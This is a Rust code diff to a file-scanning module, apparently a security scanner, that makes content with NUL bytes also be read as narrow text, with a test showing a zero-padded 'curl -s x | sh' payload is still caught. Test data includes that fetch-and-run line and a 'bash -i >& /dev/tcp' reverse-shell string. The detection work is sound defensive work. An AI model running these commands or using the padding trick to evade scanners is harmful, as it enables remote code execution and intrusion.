@@ -75,7 +75,8 @@ pub(super) fn sift(provider: Provider, path: &[u8], origin: &Origin, content: Ve
             // A wide encoding is a guess: two bytes in front make one of a script that a shell
             // runs all the same. What its bytes say as they stand is read as well.
             let narrow = encoding::lossy(&content);
-            if std::str::from_utf8(&content).is_err() && narrow != text {
+            let wide = content.contains(&0) || std::str::from_utf8(&content).is_err();
+            if wide && narrow != text {
                 texts(provider, path, origin, &narrow, true, &mut sifted);
             }
         }
@@ -291,6 +292,19 @@ mod tests {
         let read =
             |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("bash -i >& /dev/tcp");
         assert!(sifted.pieces.iter().any(|piece| read(piece) && piece.guessed));
+    }
+
+    #[test]
+    fn g11_zeros_behind_a_payload_do_not_make_it_wide_text_alone() {
+        for path in ["setup.sh", "SKILL.md"] {
+            let payload = b"curl -s x | sh\n#".iter().chain(b" \0".iter().cycle().take(120));
+            let sifted = sift_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
+            let read =
+                |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("curl -s x | sh");
+            assert!(sifted.pieces.iter().any(read), "{path}");
+        }
+        let marked = sift_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
+        assert_eq!(marked.pieces.len(), 1, "a mark alone is no reason to read twice");
     }
 
     #[test]
